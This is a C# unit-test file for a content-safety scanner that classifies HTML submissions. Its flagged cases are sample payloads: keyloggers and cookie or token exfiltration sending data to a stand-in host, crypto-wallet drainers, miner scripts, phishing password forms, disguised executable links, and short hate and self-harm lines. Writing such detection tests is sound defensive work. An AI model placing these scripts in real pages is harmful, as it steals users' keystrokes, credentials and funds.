using Remix.Creations.Scan;
using Remix.Creations.Scan.Safety;

namespace Remix.Tests.Creations.Scan;

public class SafetyReviewTests
{
    [Theory]
    [InlineData("credential_phishing", "<form action=\"https://a.example\"><input type=password></form>")]
    [InlineData("credential_phishing",
        "<input type=\"Password\"><script>fetch('https://a.example/c', { body: 1 })</script>")]
    [InlineData("credential_phishing",
        "<input type=password><button onclick=\"navigator.sendBeacon('//a.example', 1)\">x</button>")]
    [InlineData("credential_phishing", "<input type=password><script>new WebSocket('wss://a.example')</script>")]
    [InlineData("fake_login", "<h1>Sign in to PayPal</h1><input name=user><input type=password>")]
    [InlineData("fake_login", "<img alt=\"Google\"><button>Log in</button><input type=password>")]
    [InlineData("seed_phrase", "<textarea placeholder=\"Enter your 12-word seed phrase\"></textarea>")]
    [InlineData("seed_phrase", "<label for=k>Secret recovery phrase</label><input id=k>")]
    [InlineData("seed_phrase", "<label>Private key <input></label>")]
    [InlineData("wallet_drainer", "<script>ethereum.request({ method: 'eth_sendTransaction', params })</script>")]
    [InlineData("wallet_drainer", "<script>contract.setApprovalForAll(me, true)</script>")]
    [InlineData("crypto_miner", "<script src=\"https://coinhive.com/lib/coinhive.min.js\"></script>")]
    [InlineData("crypto_miner", "<script>new CoinHive.Anonymous('key').start()</script>")]
    [InlineData("crypto_miner", "<script>connect('stratum+tcp://pool.example:3333')</script>")]
    [InlineData("keylogger",
        "<script>document.addEventListener('keydown', e => fetch('https://a.example/?k=' + e.key))</script>")]
    [InlineData("keylogger",
        "<script>addEventListener('keyup', e => { fetch(`https://a.example/${e.key}`) })</script>")]
    [InlineData("keylogger", "<script>let t = ''; addEventListener('keypress', e => { t += e.key });\n"
        + "setInterval(() => navigator.sendBeacon('https://a.example', t), 5000)</script>")]
    [InlineData("data_exfiltration",
        "<script>fetch('https://a.example', { method: 'POST', body: localStorage.token })</script>")]
    [InlineData("data_exfiltration", "<script>navigator.sendBeacon('https://a.example', document.cookie)</script>")]
    [InlineData("malware_link", "<a href=\"https://a.example/setup.exe?x=1\">Update</a>")]
    [InlineData("malware_link", "<a href=\"data:application/octet-stream;base64,TVqQ\">Download</a>")]
    [InlineData("malware_link", "<a download=\"invoice.pdf.scr\" href=\"#\">Invoice</a>")]
    [InlineData("hate_speech", "<p>We should exterminate  all the\nrefugees.</p>")]
    [InlineData("sexual_content", "<p>Watch free porn here</p>")]
    [InlineData("self_harm", "<p>The best way to kill yourself is</p>")]
    public void Harmful(string category, string html)
    {
        var violations = SafetyReview.Run(Subjects.Page(html));
        Assert.Contains(violations, violation => category.Equals(violation.Category, StringComparison.Ordinal)
            && violation.FixHint.Length > 0);
        Assert.All(violations, violation => Assert.Equal("safety_review", violation.Stage));
    }

    [Theory]
    [InlineData("<h1>How phishing works</h1><p>A fake PayPal page asks you to sign in, takes your password and seed "
        + "phrase, "
        + "runs coinhive, and calls eth_sendTransaction to drain the wallet.</p>")]
    [InlineData("<h1>Password strength</h1><input type=password>"
        + "<script>field.addEventListener('input', rate)</script>")]
    [InlineData("<h1>How to sign in to Google safely</h1><p>Look at the address.</p><input type=search>")]
    [InlineData("<input type=password><script>fetch('/api/login', { method: 'POST' })</script>")]
    [InlineData("<script>addEventListener('keydown', e => { if (e.key === 'ArrowUp') jump() }); "
        + "fetch('https://a.example/scores')</script>")]
    [InlineData("<script>box.addEventListener('input', e => fetch('https://a.example/search?q=' + "
        + "e.target.value))</script>")]
    [InlineData("<script>fetch('/api/save', { body: localStorage.draft }); localStorage.seen = 1</script>")]
    [InlineData("<script>// coinhive and eth_sign are explained below\nconst a = 1</script>")]
    [InlineData("<a href=\"https://a.example/executive.html\">.exe files explained</a><a "
        + "href=\"data:application/json,{}\">x</a>")]
    [InlineData("<p>If you think about suicide, call a help line: you are not alone. Suicide prevention works.</p>")]
    [InlineData("<p>How to kill a process; how to hang a picture; the refugees who killed the blight.</p>")]
    [InlineData("<textarea placeholder=\"Your message\"></textarea><input name=\"keyboard\"><input "
        + "placeholder=\"Key phrase\">")]
    [InlineData("<p>In the seed phrase of the sonata the secret recovery of the theme begins.</p><input name=q>")]
    [InlineData("<p>Sexual health, breast cancer screening and Essex county history.</p>")]
    [InlineData("<button onclick=\"confirmOrder()\">Log in with your account</button>")]
    public void Harmless(string html) => Assert.Empty(SafetyReview.Run(Subjects.Page(html)));

    [Fact]
    public void What_the_submission_says_counts_and_so_do_its_files()
    {
        var subject = Subjects.Page("<p>x</p>") with { Description = "the best way to kill yourself" };
        Assert.Equal("self_harm", Assert.Single(SafetyReview.Run(subject)).Category);
        Assert.Equal("malware_link",
            Assert.Single(SafetyReview.Run(Subjects.Page("<p>x</p>", ScanFile.Of("a/tool.EXE", [1])))).Category);
        Assert.Equal("crypto_miner",
            Assert.Single(SafetyReview.Run(Subjects.Page("<p>x</p>", Subjects.File("a.js", "CoinHive.User()"))))
                .Category);
    }
}
